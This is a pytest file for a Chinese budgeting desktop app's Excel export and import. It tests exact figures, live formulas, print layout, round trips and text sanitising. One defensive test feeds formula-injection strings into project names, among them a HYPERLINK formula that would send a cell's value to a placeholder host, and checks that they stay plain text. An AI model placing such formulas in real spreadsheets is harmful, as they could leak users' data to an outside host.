"""Excel for superiors and back: exact figures, live totals with values, safe text, round trips."""

import os
import re
import shutil
import subprocess
import zipfile
from decimal import Decimal
from pathlib import Path

import openpyxl
import pytest

from desktop.cli.main import main
from desktop.core.errors import BudgetDeskError
from desktop.services import evaluation, interchange, projects, workbook
from desktop.services.facts import year_facts
from desktop.services.workspace import Workspace


@pytest.fixture
def exported(demo, tmp_path):
    out = tmp_path / "demo.xlsx"
    report = workbook.export_workbook(demo, 2020, out)
    return out, report


def rows_of(ws):
    return [r for r in ws.iter_rows(values_only=True)]


def test_figures_equal_the_indicator_engine(demo, exported):
    out, report = exported
    assert report.sheets[0] == "封面" and "勾稽校验" in report.sheets and len(report.sheets) == 24
    book = openpyxl.load_workbook(out, data_only=True)
    facts = year_facts(demo, 2020)
    summary = {}
    for r in rows_of(book["预算收支总表"]):
        if r[0]:
            summary.setdefault(r[0], r)  # the table, not the chart-data block below it
    wan = Decimal(10000)

    def same(cell, value):  # cell values are the exact decimals XlsxWriter wrote
        return Decimal(repr(cell)) == (value / wan).normalize() or round(Decimal(repr(cell)), 6) == round(value / wan, 6)

    assert same(summary["合计"][3], facts.adjusted_total)
    assert same(summary["合计"][4], facts.actual_total)
    assert same(summary["合计"][1], facts.initial_total)
    from desktop.core.domain import BudgetCategory

    assert same(summary["日常公用经费"][3], facts.adjusted_of(BudgetCategory.PUBLIC))
    assert same(summary["日常公用经费"][4], facts.actual_of(BudgetCategory.PUBLIC))
    results = evaluation.indicators(demo, 2020)
    indicator_rows = {r[0]: r for r in rows_of(book["绩效指标"])[1:]}
    for result in results.values():
        row = indicator_rows[result.name]
        if result.value is None:
            assert row[1] == "—"  # as the program prints it
        else:
            assert f"{Decimal(repr(row[1])):.2f}" == result.printed, result.name
        assert (row[4] or "") == {True: "达标", False: "未达标", None: ""}[result.met]
    score_rows = rows_of(book["自评评分表"])
    total = next(r for r in score_rows if r[2] == "总分")
    assert Decimal(repr(total[4])) == Decimal("91.65")
    checks = rows_of(book["勾稽校验"])[1:]
    assert sum(1 for r in checks if r[0] == "尾差") == 4 and not any(r[0] == "错误" for r in checks)


def test_totals_are_live_formulas_with_values(exported):
    out, _ = exported
    formulas = openpyxl.load_workbook(out)
    values = openpyxl.load_workbook(out, data_only=True)
    sheet = "预算收支总表"
    total_row = next(i for i, r in enumerate(rows_of(formulas[sheet]), start=1) if r[0] == "合计")
    assert str(formulas[sheet].cell(total_row, 4).value).startswith("=")
    assert values[sheet].cell(total_row, 4).value is not None  # cached: a viewer that does not recalculate
    cards = formulas["资产卡片明细"]
    last = [r for r in cards.iter_rows(values_only=True)][-1]
    assert last[0] == "合计" and str(last[6]).startswith("=SUM(")


def test_layout_for_printing_and_reading(exported):
    out, _ = exported
    book = openpyxl.load_workbook(out)
    for name in ("预算调整明细", "资产卡片明细", "政府采购"):
        ws = book[name]
        assert ws.freeze_panes == "A2"
        assert ws.page_setup.paperSize == 9  # A4
        assert ws.print_title_rows in ("1:1", "$1:$1")
    assert book["资产卡片明细"].page_setup.orientation == "landscape"
    assert book["预算调整明细"].column_dimensions["G"].width > 10
    cell = book["资产卡片明细"]["G2"]
    assert cell.number_format == "#,##0.00" and cell.data_type == "n"
    with zipfile.ZipFile(out) as archive:
        charts = [n for n in archive.namelist() if n.startswith("xl/charts/chart")]
    assert len(charts) == 2  # quarterly progress and budget by category, as native Excel charts


def test_text_that_looks_like_a_formula_stays_text(demo, tmp_path):
    nasty = ['=HYPERLINK("http://x.invalid/?"&B1,"点击")', "+1+1", "-负数开头", "@SUM(A1)", "=1+1"]
    for n, name in enumerate(nasty):
        projects.add_project(demo, 2020, code=f"X{n}", name=name, note=name)
    out = tmp_path / "n.xlsx"
    workbook.export_workbook(demo, 2020, out)
    with zipfile.ZipFile(out) as archive:
        xml = "".join(archive.read(n).decode("utf-8") for n in archive.namelist() if n.startswith("xl/worksheets/"))
    formulas = re.findall(r"<f>(.*?)</f>", xml)
    assert formulas and not [f for f in formulas if "HYPERLINK" in f or f in ("1+1",)]
    assert all(re.match(r"^(SUM\(|IF\(|[A-Z]+\d+[+\-/]|[A-Z]+\d+$)", f) for f in formulas), formulas[:5]
    book = openpyxl.load_workbook(out)
    names = {r[1] for r in rows_of(book["项目"])}
    assert set(nasty) <= names


def test_export_import_export_is_the_same_data(demo, exported, tmp_path):
    out, _ = exported
    with Workspace.open(tmp_path / "again.sqlite3", create=True) as ws:
        preview = workbook.preview_workbook(ws, out)
        assert preview.ok, preview.refusals
        workbook.apply_import(ws, preview)
        again = interchange.export_document(ws, None, [2020])
    original = interchange.export_document(demo, None, [2020])
    assert again["years"] == original["years"]
    assert again["unit"] == original["unit"]


def test_generated_data_survives_the_workbook(tmp_path):
    from test_interchange import random_document

    for seed in range(4):
        document = random_document(seed)
        with Workspace.open(tmp_path / f"a{seed}.sqlite3", create=True) as a:
            interchange.import_document(a, document)
            first = interchange.export_document(a)
            workbook.export_workbook(a, 2022, tmp_path / f"g{seed}.xlsx")
        with Workspace.open(tmp_path / f"b{seed}.sqlite3", create=True) as b:
            preview = workbook.preview_workbook(b, tmp_path / f"g{seed}.xlsx")
            assert preview.ok, preview.refusals
            workbook.apply_import(b, preview)
            second = interchange.export_document(b)
        diffs = [(k, first["years"][0][k], second["years"][0][k]) for k in first["years"][0]
                 if first["years"][0][k] != second["years"][0][k]]
        assert not diffs, (seed, str(diffs)[:600])


def test_template_filled_by_a_colleague_reads_back(tmp_path):
    template = tmp_path / "t.xlsx"
    assert main(["template", "--year", "2023", "--unit-code", "T9", "--unit-name", "测试局", "--out", str(template)]) == 0
    book = openpyxl.load_workbook(template)
    assert "年初预算明细" in book.sheetnames and "预算收支总表" not in book.sheetnames
    book["年初预算明细"].append(["人员经费", None, "1,234,567.89", "工资"])
    book["年初预算明细"].append(["日常公用经费", None, "１２３.４５", None])  # full-width digits
    book["支出明细"].append(["人员经费", None, 1000000.5, None])
    book["人员编制"].append(["行政", 10, 8])
    book["资产卡片明细"].append(["A-1", "电脑", "通用设备", "固定资产", "新购", 45000, 6000, 0, "在用"])  # serial date
    score = book["自评评分表"]
    score.cell(2, 5, 2.5)  # 得分
    score.cell(2, 9, "目标设定较明确")
    book.save(template)
    db = tmp_path / "new.sqlite3"
    assert main(["import", "--db", str(db), str(template), "--yes"]) == 0
    with Workspace.open(db) as ws:
        facts = year_facts(ws, 2023)
        assert facts.initial["personnel"] == Decimal("1234567.89")
        assert facts.initial["public"] == Decimal("123.45")
        assert facts.actual["personnel"] == Decimal("1000000.50")
        assert facts.headcount["admin"] == (10, 8)
        assert facts.score_entries["target_setting"] == (Decimal("2.5"), "目标设定较明确")
        card = interchange.export_document(ws)["years"][0]["asset_cards"][0]
        assert card["acquired_on"] == "2023-03-15" and card["original_value"] == "6000.00"


def test_same_file_twice_is_recognized(tmp_path, exported):
    out, _ = exported
    db = tmp_path / "twice.sqlite3"
    with Workspace.open(db, create=True) as ws:
        workbook.apply_import(ws, workbook.preview_workbook(ws, out))
        again = workbook.preview_workbook(ws, out)
        assert "已于" in again.duplicate and "导入过" in again.duplicate


def test_locked_or_open_destination(demo, tmp_path, monkeypatch):
    out = tmp_path / "keep.xlsx"
    out.write_bytes(b"previous version")

    def refuse(*_args):
        raise PermissionError(13, "in use")

    monkeypatch.setattr(os, "replace", refuse)
    with pytest.raises(BudgetDeskError, match="正被其他程序打开"):
        workbook.export_workbook(demo, 2020, out)
    assert out.read_bytes() == b"previous version"
    assert [p.name for p in tmp_path.iterdir()] == ["keep.xlsx", "demo.sqlite3"] or \
        sorted(p.name for p in tmp_path.iterdir() if p.suffix == ".tmp") == []


def test_cli_export_xlsx(demo_path, tmp_path, capsys):
    out = tmp_path / "cli.xlsx"
    assert main(["export", "--db", str(demo_path), "--year", "2020", "--format", "xlsx", "--out", str(out)]) == 0
    assert "24 个工作表" in capsys.readouterr().out
    assert openpyxl.load_workbook(out, read_only=True).sheetnames[0] == "封面"


SOFFICE = shutil.which("soffice") or shutil.which("libreoffice")
RECALC_PROFILE = """<?xml version="1.0" encoding="UTF-8"?>
<oor:items xmlns:oor="http://openoffice.org/2001/registry" xmlns:xs="http://www.w3.org/2001/XMLSchema" xmlns:xsi="http://www.w3.org/2001/XMLSchema-instance">
<item oor:path="/org.openoffice.Office.Calc/Formula/Load"><prop oor:name="OOXMLRecalcMode" oor:op="fuse"><value>0</value></prop></item>
</oor:items>
"""


def libreoffice_recalculated(source: Path, tmp_path: Path) -> Path:
    """LibreOffice (headless) opens the file, recalculates every formula, and saves a copy."""
    profile = tmp_path / "lo-profile"
    (profile / "user").mkdir(parents=True, exist_ok=True)
    (profile / "user" / "registrymodifications.xcu").write_text(RECALC_PROFILE, encoding="utf-8")
    out = tmp_path / "lo-out"
    subprocess.run([SOFFICE, f"-env:UserInstallation={profile.as_uri()}", "--headless", "--convert-to", "xlsx",
                    "--outdir", str(out), str(source)], check=True, capture_output=True, timeout=300)
    return out / source.name


@pytest.mark.skipif(SOFFICE is None and not os.environ.get("CI"), reason="LibreOffice not installed")
def test_libreoffice_recalculates_the_same_totals(exported, tmp_path):
    import xlsxwriter

    wrong = tmp_path / "wrong.xlsx"
    book = xlsxwriter.Workbook(str(wrong))
    book.add_worksheet("a").write_formula(0, 0, "=1+1", None, 5)
    book.close()
    assert openpyxl.load_workbook(libreoffice_recalculated(wrong, tmp_path), data_only=True)["a"]["A1"].value == 2

    out, _ = exported
    recalculated = openpyxl.load_workbook(libreoffice_recalculated(out, tmp_path), data_only=True)
    ours = openpyxl.load_workbook(out, data_only=True)
    formulas = openpyxl.load_workbook(out)
    compared = 0
    for name in formulas.sheetnames:
        for row in formulas[name].iter_rows():
            for cell in row:
                if isinstance(cell.value, str) and cell.value.startswith("="):
                    mine = ours[name][cell.coordinate].value
                    theirs = recalculated[name][cell.coordinate].value
                    if mine in (None, ""):
                        assert theirs in (None, ""), (name, cell.coordinate)
                        continue
                    if isinstance(mine, str):  # "—": a rate of a zero or negative base
                        assert theirs == mine, (name, cell.coordinate, mine, theirs)
                        continue
                    assert abs(Decimal(repr(theirs)) - Decimal(repr(mine))) < Decimal("0.000001"), \
                        (name, cell.coordinate, mine, theirs)
                    compared += 1
    assert compared > 50


def test_control_characters_and_over_long_text_are_handled(tmp_path):
    from test_interchange import random_document

    document = random_document(1)
    document["years"][0]["narratives"] = [{"section": "plans", "body": "响铃\x07字符"},
                                          {"section": "problems", "body": "长" * 40000}]
    with Workspace.open(tmp_path / "c.sqlite3", create=True) as ws:
        interchange.import_document(ws, document)
        out = tmp_path / "c.xlsx"
        report = workbook.export_workbook(ws, 2022, out)
    assert any("控制字符" in line for line in report.cleaned)
    assert any("32,767" in line for line in report.cleaned)
    bodies = [r[1] for r in rows_of(openpyxl.load_workbook(out)["报告文字"])[1:]]
    assert "响铃字符" in bodies
    assert max(len(b) for b in bodies) <= 32767


def test_quarterly_table_and_card_reconciliation(exported):
    out, _ = exported
    book = openpyxl.load_workbook(out)
    rows = rows_of(book["绩效指标"])
    quarters = [r[:5] for r in rows if r[0] and str(r[0]).startswith("第") and str(r[0]).endswith("季度")]
    assert quarters == [("第1季度", 29.53, 25, 118.12, "达到"), ("第2季度", 57.6, 50, 115.2, "达到"),
                        ("第3季度", 82, 75, 109.33, "达到"), ("第4季度", 99.83, 100, 99.83, "未达到")]
    fixed = next(r for r in rows_of(book["资产汇总"]) if r[0] == "固定资产")
    # the card list's total includes the disposed vehicle (260,000.00); the ledger does not
    assert (fixed[1] - fixed[2], fixed[3], fixed[5], fixed[6], fixed[7]) == (54234400, 54234400, 45666918.02, 54234400, 0)
    assert rows_of(book["自评评分表"])[1][0] == "投入"  # column A is Chinese; the code comes last
